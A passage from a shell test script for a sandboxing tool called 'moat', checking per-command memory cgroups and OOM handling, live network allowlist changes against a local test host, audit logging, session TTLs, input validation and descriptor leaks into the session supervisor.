	run_moat session exec "$SG" -- sh -c 'grep memory /proc/self/cgroup'
	like "a command runs in a group of its own inside the session's" "$g1" ":memory:/cmd-[0-9]+$"
	check "the next one in another" test "$g1" != "$out"
	run_moat session exec "$SG" --json -- python3 -c "x = bytearray(64 << 20); x[::4096] = b'a' * len(x[::4096])"
	big=$(printf '%s' "$out" | sed -n 's/.*"mem_peak_bytes":\([0-9]*\).*/\1/p')
	run_moat session exec "$SG" --json -- sleep 0.3
	small=$(printf '%s' "$out" | sed -n 's/.*"mem_peak_bytes":\([0-9]*\).*/\1/p')
	check "its memory peak is its own: 64M counted ($big)" test "${big:-0}" -ge $((64 << 20))
	check "and the next command's is its own too ($small)" test "${small:-999999999}" -lt $((16 << 20))
	run_moat session exec "$SG" --json -- python3 -c "x = bytearray(400 << 20); x[::4096] = b'a' * len(x[::4096])"
	like "a command over the session's memory: its own OOM, 137" "$rc $out" '^137 .*"end_reason":"oom"'
	like "said as a limit hit" "$err" "memory limit 160.0M hit"
	run_moat session exec "$SG" --json -- echo after
	like "the session and its next command go on, not ended by that OOM" "$rc $out" '^0 after
.*"end_reason":"exited"'
	run_moat session exec "$SG" -- sh -c "sleep 6$tag >/dev/null 2>&1 &"
	bg=$(pgrep -f "^sleep 6$tag\$" | head -1)
	bgg=$(sed -n 's/^[0-9]*:memory:\(.*\)/\1/p' "/proc/$bg/cgroup" 2>/dev/null)
	run_moat session exec "$SG" -- true
	like "a background process stays in its command's group" "$bgg" "/cmd-[0-9]+$"
	check "which stays while it runs" test -d "/sys/fs/cgroup/memory$bgg"
	# While nothing runs, the next command's group is made ahead: once
	# the last command's group is gone, one empty group waits beside the
	# background one, and the next command runs in it.
	spare=
	for _ in $(seq 100); do
		e=$(for d in "/sys/fs/cgroup/memory${bgg%/cmd-*}"/cmd-*; do
			[ "$d" != "/sys/fs/cgroup/memory$bgg" ] && [ -d "$d" ] &&
			    [ ! -s "$d/tasks" ] && echo "${d##*/}"; done)
		[ "$(printf '%s' "$e" | grep -c .)" = 1 ] && spare=$e && break
		sleep 0.05
	done
	like "while idle, one empty group waits for the next command" "$spare" "^cmd-[0-9]+$"
	run_moat session exec "$SG" -- sh -c 'grep memory /proc/self/cgroup'
	like "the next command runs in it" "$out" ":memory:/${spare:-none}$"
	run_moat session kill "$SG"
	check "the session's end kills it and removes its group" gone_within 5 "^sleep 6$tag\$"
	check "... the group removed" test ! -e "/sys/fs/cgroup/memory$bgg"
else
	for w in "own group" "another group" "own peak" "next peak" "own OOM" \
	    "limit hit" "goes on" "background group" "group stays" "group ahead" \
	    "next in it" "killed" "removed"; do
		skip "a cgroup per command ($w): no cgroup v1 for $who here; a command is metered as its process subtree"
	done
	run_moat session kill "$SG"
fi

# A running session's allowlist changed live: allow adds a rule for its
# next connections, deny takes it out again; each change is a row of the
# session in the audit log, and the session's log says who made it.
if command -v curl >/dev/null && [ -x /usr/bin/python3 ]; then
	mkdir -p "$T/www" && echo "hello-$tag" >"$T/www/h.txt"
	PY=/usr/bin/python3 www_start "$T/www"
	printf 'include = restricted\nnet-resolve = www.test=127.0.0.1\nnet-allow-private = yes\n' >"$T/net.conf"
	run_moat session new -p "$T/net.conf" --name "net$tag"
	SN=${out%% *}
	get() { run_moat session exec "net$tag" -q -- curl -sSf -m 10 "http://www.test:$P/h.txt"; }
	get
	like "before: the host is refused (the proxy answers 403)" "$rc $err" "^22 .*403"
	run_moat session allow "net$tag" "www.test:$P"
	is "session allow: 0, said" "$rc $out" "0 session net$tag: allowed www.test:$P"
	get
	is "its next command reaches the host" "$rc $out" "0 hello-$tag"
	run_moat session deny "net$tag" "www.test:$P"
	is "session deny: 0, said" "$rc $out" "0 session net$tag: no longer allows www.test:$P"
	get
	like "after: refused again" "$rc $err" "^22 .*403"
	run_moat session deny "net$tag" "www.test:$P"
	like "deny of a rule it does not have: 125, said" "$rc $err" "^125 .*no net-allow rule www.test:$P in the allowlist"
	run_moat session allow "net$tag" "bad..name"
	like "a bad rule: 125, named, and not recorded" "$rc $err" '^125 moat session allow: bad..name: "bad..name" is not a host name'
	run_moat audit list --session "$SN"
	like "each change is a row of the session" "$out" "moat session allow $SN www.test:$P"
	is "two denies and an allow recorded, not the bad rule" "$(printf '%s\n' "$out" | grep -c 'moat session \(allow\|deny\)')" 3
	like "who changed it: in the session's log, with the client's pid" \
	    "$(cat "$XDG_RUNTIME_DIR/moat/$SN.log" 2>/dev/null || cat /tmp/moat-"$test_uid"/"$SN".log)" \
	    "net-allow www.test:$P added by pid [0-9]+ \(uid $test_uid\)"
	run_moat session new -p isolated
	SI=$out
	run_moat session allow "$SI" "www.test:$P"
	like "an isolated session cannot be given a host: said why" "$rc $err" "^125 .*net = isolated"
	run_moat session kill "$SI"
	run_moat session kill "net$tag"
else
	for w in before allow reach deny after twice bad rows count who isolated; do
		skip "session allow/deny ($w): needs curl and /usr/bin/python3"
	done
fi

run_moat session new --ttl 1
S3=$out
run_moat session exec "$S3" -- echo alive
is "a session with a TTL runs commands" "$out" "alive"
sleep 2
run_moat session exec "$S3" -- true
like "after its TTL it is gone" "$err" "no session $S3 is running"
like "and its log says why" "$(cat "$XDG_RUNTIME_DIR/moat/$S3.log")" "TTL expired"

run_moat session new --ttl-paused later
is "--ttl-paused takes run or stop: 125" "$rc" 125
like "saying so" "$err" "--ttl-paused later: run \(the TTL runs while paused, the default\) or stop"
run_moat session new --name "bad name"
is "a bad name: 125" "$rc" 125
like "says what a name may hold" "$err" "a name is 1 to 63 letters"
run_moat session exec no-such-session-$tag -- true
like "an unknown session is named" "$err" "no session is named no-such-session-$tag"
# Nor does it wait for the log it began to open meanwhile: here another
# process holds the log locked for as long as moat runs, and moat says
# what is wrong without the log's opening ending (its timing line, with
# MOAT_TRACE_TIMING, comes only when it has ended).
lk=$(cd "$T/ws" && MOAT_TRACE_TIMING=1 python3 - "$MOAT" "${MOAT_DB:-$XDG_DATA_HOME/moat/audit.db}" no-such-session-$tag <<'PY' 2>&1
import sqlite3, subprocess, sys
c = sqlite3.connect(sys.argv[2], isolation_level=None)
c.execute("PRAGMA locking_mode=EXCLUSIVE")
c.execute("BEGIN EXCLUSIVE")
r = subprocess.run([sys.argv[1], "session", "exec", sys.argv[3], "--", "true"],
    stdin=subprocess.DEVNULL, capture_output=True, text=True)
c.execute("COMMIT")
print("rc %d" % r.returncode)
print(r.stderr, end="")
PY
)
like "an unknown session with the log locked: 125 and named" "$lk" "rc 125
moat: no session is named no-such-session-$tag"
unlike "without waiting for the log's opening" "$lk" "timing: audit-open"
touch -d '8 days ago' "$XDG_RUNTIME_DIR/moat/s-00000000.log"
touch "$XDG_RUNTIME_DIR/moat/s-00000001.log"
run_moat session ls
check "ls removes a dead session's log after a week" test ! -e "$XDG_RUNTIME_DIR/moat/s-00000000.log"
check "and keeps a recent one" test -e "$XDG_RUNTIME_DIR/moat/s-00000001.log"
# What the caller left open without close-on-exec stays with it: not in the
# supervisor nor in init, which outlive it.
exec 7>"$T/leak-$tag"
run_moat session new --name "leak$tag"
exec 7>&-
SL=${out%% *}
sup=$(pgrep -u "$test_uid" -f "session new --name leak$tag\$" | head -1)
if [ -n "$sup" ]; then
	unlike "the caller's descriptors are not in the session's supervisor" \
	    "$(ls -l /proc/"$sup"/fd/ 2>&1)" "leak-$tag"
	kids=$(pgrep -P "$sup" | tr '\n' ' ')
	if is_root; then
		unlike "nor in its init" "$(for k in $kids; do ls -l /proc/"$k"/fd/; done 2>&1)" "leak-$tag"
	else
		skip "nor in its init: init is not dumpable, so only root may list its descriptors"
	fi
else
	not_ok "the session's supervisor is found (session new --name leak$tag)"
	skip "nor in its init: no supervisor"
fi
run_moat session kill "$SL"

# Supervisors are detached: what a sanitizer build reports lands in their logs.
unlike "no sanitizer report in any session's log" "$(cat "$XDG_RUNTIME_DIR"/moat/*.log)" \
	"Sanitizer|runtime error"
done_testing
